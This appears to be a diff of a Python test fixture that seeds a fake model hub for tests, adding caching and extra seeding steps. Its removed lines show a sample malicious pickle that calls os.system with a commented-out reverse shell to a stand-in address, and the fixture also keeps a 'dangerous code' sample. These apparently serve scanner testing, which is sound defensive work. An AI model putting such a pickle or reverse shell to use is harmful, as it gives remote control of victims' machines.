@@ -3,8 +3,13 @@
 from __future__ import annotations
 
 import json
+from functools import cache
 
+from tests.fakehub.contents import BERT, HOSTILE_PICKLE, MEGABYTE
 from tests.fakehub.objects import Content, Issue
+from tests.fakehub.seed_formats import add_adapters, add_flagged, add_other_formats, add_pipelines
+from tests.fakehub.seed_histories import add_histories, add_kernels, add_pull_requests
+from tests.fakehub.seed_names import add_borrowed_code, add_renamed_accounts
 from tests.fakehub.world import World
 
 ALICE = "alice"
@@ -20,17 +25,12 @@ BERT_BASE = "86b5e0934494bd15c9632b12f734a8a67f723594"
 MINILM = "c9745ed1d9f207416be6d2e6f8de32d1f16199bf"
 
 IMPORT_NIGHT = "2022-03-02T23:29:04"
-MEGABYTE = 1_000_000
-
-# Calls posix.system when unpickled. The command ends at once; the rest of it is a comment.
-HOSTILE_PICKLE = b"cposix\nsystem\n(S'exit 0 # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\ntR."
 SAFE_CODE = "class AcmeModel:\n    pass\n"
 DANGEROUS_CODE = (
     "import os\nimport socket\nimport subprocess\n\n"
     "subprocess.run(['true'])\nos.system('true')\neval('1')\n\n\n"
     "class FastModel:\n    home = socket.gethostname\n"
 )
-BERT = json.dumps({"architectures": ["BertForMaskedLM"], "model_type": "bert"})
 PHI_MAP = {
     "AutoConfig": "configuration_phi3.Phi3Config",
     "AutoModelForCausalLM": "modeling_phi3.Phi3ForCausalLM",
@@ -40,7 +40,17 @@ FAST_MAP = {"AutoModel": "modeling_fast.FastModel"}
 
 
 def small_world() -> World:
-    """A new World; the same ids and hashes each time."""
+    """A World of one's own; the same ids and hashes each time."""
+    return _seeded().copy()
+
+
+@cache
+def _seeded() -> World:
+    return build_world()
+
+
+def build_world() -> World:
+    """The small world from nothing, which takes ten times as long as a copy of it."""
     world = World()
     _add_accounts(world)
     _add_well_known(world)
@@ -51,6 +61,15 @@ def small_world() -> World:
     _add_moved(world)
     _add_revisions(world)
     _add_other_types(world)
+    add_adapters(world)
+    add_pipelines(world)
+    add_other_formats(world)
+    add_flagged(world)
+    add_histories(world)
+    add_pull_requests(world)
+    add_kernels(world)
+    add_borrowed_code(world)
+    add_renamed_accounts(world)
     return world
 
 
